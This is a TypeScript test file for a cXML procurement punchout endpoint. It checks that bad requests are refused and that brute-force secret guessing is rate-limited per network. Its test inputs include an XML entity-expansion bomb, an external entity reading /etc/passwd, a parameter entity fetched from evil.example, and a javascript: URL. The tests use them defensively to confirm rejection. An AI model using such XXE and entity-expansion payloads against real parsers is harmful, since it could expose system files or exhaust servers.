import type { FastifyError } from "fastify";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DatabaseAway } from "../db/database-away.ts";
import { expectedProblem } from "../http/errors.ts";
import { readSettings } from "../settings.ts";
import { testApp } from "../testing/test-app.ts";
import { ask, setupXml } from "./testing/a-procurement-system.ts";
import { aBuyingShop, type BuyingShop } from "./testing/a-buying-shop.ts";
import { statusOf } from "./wire/trouble.ts";

let shop: BuyingShop;

beforeAll(async () => {
  shop = await aBuyingShop();
});
afterAll(() => shop.app.close());

describe("a request that is refused says so by cXML", () => {
  const bomb = `<!DOCTYPE cXML [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>`;
  const outside = `<!DOCTYPE cXML [<!ENTITY x SYSTEM "file:///etc/passwd">]>`;
  it.each([
    ["a wrong secret", setupXml({ secret: "a secret of nobody at all" }), 401],
    ["an identity that nobody has", setupXml({ identity: "0" }), 401],
    ["no XML", "hello", 406],
    ["XML that is not closed", "<cXML><Header>", 406],
    ["entities that grow", setupXml({ doctype: bomb, cookie: "&b;" }), 406],
    ["an entity that lies elsewhere", setupXml({ doctype: outside, cookie: "&x;" }), 406],
    [
      "a parameter entity",
      setupXml({ doctype: '<!DOCTYPE cXML [<!ENTITY % p SYSTEM "http://evil.example/">%p;]>' }),
      406,
    ],
    ["elements without end", `<cXML>${"<a>".repeat(100)}${"</a>".repeat(100)}</cXML>`, 406],
    ["another document", "<cXML payloadID='1'><Header/></cXML>", 400],
    ["a comment that cannot be kept", `${setupXml()}<!-- \0 -->`, 406],
    ["no address to go back to", setupXml({ url: "" }), 400],
    ["an address of somebody else", setupXml({ url: "https://evil.example/" }), 400],
    ["an address without TLS", setupXml({ url: "http://buy.example/" }), 400],
    ["a script as the address", setupXml({ url: "javascript:alert(1)" }), 400],
    ["an operation that is not offered", setupXml({ operation: "source" }), 450],
    ["more than any cart holds", setupXml({ cookie: "x".repeat(1_100_000) }), 406],
  ])("PUNCH-04 %s", async (_, document, code) => {
    const answer = await ask(shop.app, document);
    expect(answer.code, answer.body).toBe(code);
    expect(answer.startUrl).toBeUndefined();
  });

  it.each([
    ["the database is away", new DatabaseAway(new Error("gone")), 560],
    ["a network has written too often", { statusCode: 429 }, 560],
    ["the document is too large", { code: "FST_ERR_CTP_BODY_TOO_LARGE", statusCode: 413 }, 406],
    ["the line was cut", { statusCode: 400 }, 406],
    ["nobody knows why", new Error("a fault of ours"), 500],
  ])("PUNCH-04 is asked again where that may help: %s", (_, error, code) => {
    expect(statusOf(expectedProblem(error as FastifyError)?.error).code).toBe(code);
  });

  it("PUNCH-04 a network that writes too often is told so by cXML", async () => {
    const settings = { ...readSettings({}), writesPerMinute: 1, graphqlCostPerMinute: 0 };
    const app = await testApp(async () => undefined, { settings });
    expect((await ask(app, setupXml())).code).toBe(401);
    expect((await ask(app, setupXml())).code).toBe(560);
    await app.close();
  });

  it("PUNCH-01 whoever tries secrets waits, and others do not", async () => {
    const wrong = setupXml({ secret: "a secret of nobody at all" });
    for (let tries = 0; tries < 20; tries += 1) {
      // oxlint-disable-next-line no-await-in-loop -- one after another, as one who tries does
      expect((await ask(shop.app, wrong, "198.51.100.7")).code).toBe(401);
    }
    expect((await ask(shop.app, wrong, "198.51.100.7")).code).toBe(560);
    expect((await ask(shop.app, setupXml(), "198.51.100.7")).code).toBe(560);
    expect((await ask(shop.app, setupXml(), "198.51.100.8")).code).toBe(200);
  });

  it("PUNCH-01 a document of nothing but secrets that never close is answered", async () => {
    const document = "<SharedSecret>".repeat(74_000);
    expect((await ask(shop.app, document)).code).toBe(406);
    expect((await ask(shop.app, `<cXML>${document}</cXML>`)).code).toBe(406);
  }, 30_000);
});

describe("whoever guesses at a partner's secret keeps nobody else out", () => {
  const WRONG = { secret: "a secret of nobody at all" };
  const guess = async (times: number, document: string, address: (at: number) => string) => {
    const codes: number[] = [];
    for (let at = 0; at < times; at += 1) {
      // oxlint-disable-next-line no-await-in-loop -- one after another, as one who tries does
      codes.push((await ask(shop.app, document, address(at))).code);
    }
    return codes;
  };

  it("PUNCH-01 one network that is made to wait counts no more on the identity", async () => {
    await guess(150, setupXml(WRONG), () => "198.51.100.20");
    expect((await ask(shop.app, setupXml(), "198.51.100.21")).code).toBe(200);
  });

  it("PUNCH-01 a network that proved it before comes in whoever guesses elsewhere, or beside it", async () => {
    const hour = 3_600_001;
    shop.app.time.now = new Date(shop.app.time.now.getTime() + hour);
    const gateway = "198.51.100.30";
    expect((await ask(shop.app, setupXml(), gateway)).code).toBe(200);
    const elsewhere = (at: number) => `192.0.2.${at % 10}`;
    const codes = await guess(101, setupXml(WRONG), elsewhere);
    expect([codes[99], codes[100]]).toEqual([401, 560]);
    expect((await ask(shop.app, setupXml(), "198.51.100.31")).code, "of nobody known").toBe(560);
    const other = setupXml({ ...WRONG, identity: "another" });
    expect((await guess(21, other, () => gateway))[20]).toBe(560);
    const right = await guess(25, setupXml(), () => gateway);
    expect(right.every((code) => code !== 560)).toBe(true);
    expect((await ask(shop.app, setupXml(), gateway)).code).toBe(200);
  });

  it("PUNCH-01 another name beside the partner's does not make the guesses of another identity", async () => {
    shop.app.time.now = new Date(shop.app.time.now.getTime() + 3_600_001);
    const codes: number[] = [];
    for (let at = 0; at < 101; at += 1) {
      const others = `<Credential domain="x"><Identity>decoy ${at}</Identity></Credential>`;
      const document = setupXml({ ...WRONG, others });
      // oxlint-disable-next-line no-await-in-loop -- one after another, as one who tries does
      codes.push((await ask(shop.app, document, `192.0.2.${100 + (at % 10)}`)).code);
    }
    expect([codes[99], codes[100]]).toEqual([401, 560]);
  });
});
